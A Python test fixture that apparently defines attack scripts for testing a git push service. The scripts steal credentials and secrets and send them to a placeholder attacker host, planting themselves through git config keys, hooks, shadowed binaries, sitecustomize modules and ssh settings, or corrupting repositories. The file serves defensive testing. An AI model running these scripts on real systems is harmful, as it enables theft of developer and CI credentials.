"""What project code may try before `push`, to take the credentials or the push: scripts for plain `sh`."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Final

PRELUDE: Final = r"""
mkdir "$WORKSPACE/.thief"
thief=$WORKSPACE/.thief/steal
cat >"$thief" <<END
#!/bin/sh
PATH=$(dirname "$(command -v python)"):/usr/bin:/bin
{
  echo "arguments: \$0 \$*"
  env
  timeout 2 cat
  for file in /var/run/secrets/setup.codemyspec.com/*/*; do test ! -f "\$file" || cat "\$file"; done
} 2>/dev/null | python -I -c '
import ssl, sys, urllib.request
request = urllib.request.Request("$PARAM_ATTACKER/loot", data=b"stolen: " + sys.stdin.buffer.read())
urllib.request.urlopen(request, context=ssl._create_unverified_context(), timeout=10)
'
END
chmod 755 "$thief"
settings() {
  git config --file "$1" credential.helper "!$thief"
  git config --file "$1" core.fsmonitor "$thief"
  git config --file "$1" core.sshCommand "$thief"
  git config --file "$1" core.askPass "$thief"
  git config --file "$1" core.alternateRefsCommand "$thief"
  git config --file "$1" core.hooksPath "$WORKSPACE/.thief/hooks"
  git config --file "$1" uploadpack.packObjectsHook "$thief"
}
rewriting() {
  git config --file "$1" "url.$PARAM_ATTACKER/.pushInsteadOf" "${CODE_REPO%/*}/"
}
hooks() {
  mkdir -p "$1"
  for hook in pre-push reference-transaction post-index-change pre-auto-gc; do cp "$thief" "$1/$hook"; done
}
hooks "$WORKSPACE/.thief/hooks"
cd "$WORKSPACE"
"""
"""Makes `$thief`, which sends the attacker its environment, its input and the mounted Secret; and what plants it."""

AFTER: Final = r"""
python -I - <<'END'
import os, ssl, urllib.request
around = os.path.dirname(os.environ["WORKSPACE"])
for top in (around, "/fresh", "/var/run/secrets/setup.codemyspec.com", *(["/tmp"] if around == "/setup" else [])):
    for folder, _, names in os.walk(top):
        for path in (os.path.join(folder, name) for name in names):
            if not os.path.isfile(path) or os.path.getsize(path) > 1_000_000:
                continue
            try:
                data = path.encode() + b": " + open(path, "rb").read()
            except OSError:
                continue
            if b"stolen: " in data or b"PASSWORD" in data or b"password" in data or "key" in path:
                request = urllib.request.Request(os.environ["PARAM_ATTACKER"] + "/after", data=data)
                urllib.request.urlopen(request, context=ssl._create_unverified_context(), timeout=10)
END
"""
"""A step after the push: sends the attacker what he finds in all places where the push may have left anything."""


@dataclass(frozen=True, slots=True)
class Attack:
    """`refused`: what the message of the failure says; without it the push succeeds as if there were no attack."""

    script: str
    refused: str | None = None

    @property
    def whole(self) -> str:
        """The script with what it needs."""
        return PRELUDE + self.script


ATTACKS: Final = {
    "none": Attack(":"),
    "settings of the user": Attack('settings "$HOME/.gitconfig"'),
    "settings of the user in their other place": Attack(
        'mkdir -p "$HOME/.config/git"; settings "$HOME/.config/git/config"'
    ),
    "addresses rewritten by the user": Attack('rewriting "$HOME/.gitconfig"'),
    "settings of the repository": Attack("settings code/.git/config; settings docs/.git/config"),
    "addresses rewritten by the repository": Attack("rewriting code/.git/config; rewriting docs/.git/config"),
    "settings that are included": Attack(
        "settings .thief/more; rewriting .thief/more\n"
        'for name in code docs; do git config --file $name/.git/config include.path "$WORKSPACE/.thief/more"; done'
    ),
    "settings of the work tree": Attack(
        "git config --file code/.git/config extensions.worktreeConfig true; settings code/.git/config.worktree"
    ),
    "hooks": Attack(
        "for name in code docs; do\n"
        "  hooks $name/.git/hooks; git config --file $name/.git/config --unset-all core.hooksPath || true\n"
        "done"
    ),
    "a common directory elsewhere": Attack(
        'cp -r code/.git away; settings away/config; rewriting away/config\necho "$WORKSPACE/away" >code/.git/commondir'
    ),
    "a repository around them": Attack("git init -q .; settings .git/config; rewriting .git/config; hooks .git/hooks"),
    "programs of that name": Attack(
        'for place in "$HOME/bin" "$HOME/.local/bin" bin . code/bin code; do\n'
        '  mkdir -p "$place"; for name in git ssh env sh; do cp "$thief" "$place/$name"; done\n'
        "done"
    ),
    "modules of that name": Attack(
        'steal=\'import os, subprocess; subprocess.run([os.environ["WORKSPACE"] + "/.thief/steal"], input=b"")\'\n'
        "version=$(python -c \"import sys; print(f'python{sys.version_info[0]}.{sys.version_info[1]}')\")\n"
        'site=$HOME/.local/lib/$version/site-packages; mkdir -p "$site"\n'
        'for place in "$site" "$TMPDIR" .; do\n'
        "  for name in usercustomize sitecustomize tempfile argparse projectsetup; do\n"
        '    echo "$steal" >"$place/$name.py"\n'
        "  done\n"
        "done"
    ),
    "files of the home and the temporary folder": Attack(
        'settings "$TMPDIR/config"; settings "$TMPDIR/.gitconfig"; hooks "$TMPDIR/hooks"; mkdir -p "$HOME/.ssh"\n'
        'echo "ProxyCommand $thief" >"$HOME/.ssh/config"; echo "proxy = $PARAM_ATTACKER" >"$HOME/.curlrc"\n'
        'for name in push-code code push-docs docs; do ln -s "$WORKSPACE/code/.git" "$TMPDIR/$name"; done'
    ),
    "homes that lead elsewhere": Attack(
        'settings .thief/.gitconfig; rm -rf "$HOME" "$TMPDIR"; ln -s "$WORKSPACE/.thief" "$HOME"; ln -s / "$TMPDIR"'
    ),
    "things beside the workspace": Attack(
        "cd ..; mkdir -p private stage 2>/dev/null || true\n"
        "for name in private/home private/tmp home tmp fresh; do\n"
        '  ln -s "$WORKSPACE/.thief" $name 2>/dev/null || true\n'
        "done\n"
        "settings .gitconfig"
    ),
    "derived data that lies": Attack(
        "cd code/.git; git commit-graph write --reachable; git repack -adq --write-bitmap-index\n"
        "git multi-pack-index write; git pack-refs --all\n"
        "for file in objects/info/commit-graph objects/pack/multi-pack-index objects/pack/*.bitmap; do\n"
        '  chmod 644 "$file"; head -c 2000 /dev/urandom >>"$file"\n'
        "done"
    ),
    "a reverse index that lies": Attack(
        "cd code/.git; git repack -adq; pack=$(ls objects/pack/*.pack)\n"
        'lie=\'import sys; sys.stdout.buffer.write(b"RIDX\\0\\0\\0\\1\\0\\0\\0\\1" + b"\\xff" * 12 + bytes(40))\'\n'
        'rm -f "${pack%.pack}.rev"; python -I -c "$lie" >"${pack%.pack}.rev"'
    ),
    "a folder that is a link": Attack(
        "mv code .thief/code; ln -s .thief/code code", "'workspace/code' is a symbolic link, not a directory"
    ),
    "a .git that is a link": Attack(
        "mv code/.git .thief/git; ln -s ../.thief/git code/.git",
        "'workspace/code/.git' is a symbolic link, not a directory",
    ),
    "a .git that is a file": Attack(
        "mv docs/.git .thief/git; rewriting .thief/git/config; echo 'gitdir: ../.thief/git' >docs/.git",
        "'workspace/docs/.git' is a file, not a directory",
    ),
    "objects that are a link": Attack(
        "mv code/.git/objects .thief/objects; ln -s ../../.thief/objects code/.git/objects",
        "'workspace/code/.git/objects' is a symbolic link, not a directory",
    ),
    "objects of another repository": Attack(
        "cp -r code/.git .thief/other; rm -rf code/.git/objects/??\n"
        'echo "$WORKSPACE/.thief/other/objects" >code/.git/objects/info/alternates',
        "would take objects from another repository",
    ),
    "an object that never ends": Attack(
        "mkfifo code/.git/objects/pack/pack-0000000000000000000000000000000000000000.idx",
        "is neither a file nor a directory",
    ),
    "a branch that leads elsewhere": Attack(
        "echo 'ref: refs/heads/other' >code/.git/refs/heads/main", "does not hold the id of a commit"
    ),
    "an object with another content": Attack(
        "blob=$(git -C code rev-parse HEAD:README.md); other=$(echo other | git -C code hash-object -w --stdin)\n"
        "path() { echo code/.git/objects/$(echo $1 | cut -c 1-2)/$(echo $1 | cut -c 3-); }\n"
        "chmod 644 $(path $blob); cp $(path $other) $(path $blob)",
        "code: ",
    ),
    "a submodule": Attack(
        "cd code; git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),more\n"
        "git -c user.name=a -c user.email=a@example.test commit -qm more",
        "it has submodules",
    ),
    "a file that is named .git": Attack(
        "cd code; blob=$(git rev-parse HEAD:README.md)\n"
        "entry='import sys; sys.stdout.buffer.write(b\"100644 .git\\0\" + bytes.fromhex(sys.argv[1]))'\n"
        'python -I -c "$entry" $blob >tree\n'
        "tree=$(git hash-object -t tree -w --literally tree)\n"
        "git update-ref refs/heads/main $(git -c user.name=a -c user.email=a@example.test commit-tree -m more $tree)",
        "code: ",
    ),
}
"""By what is planted."""
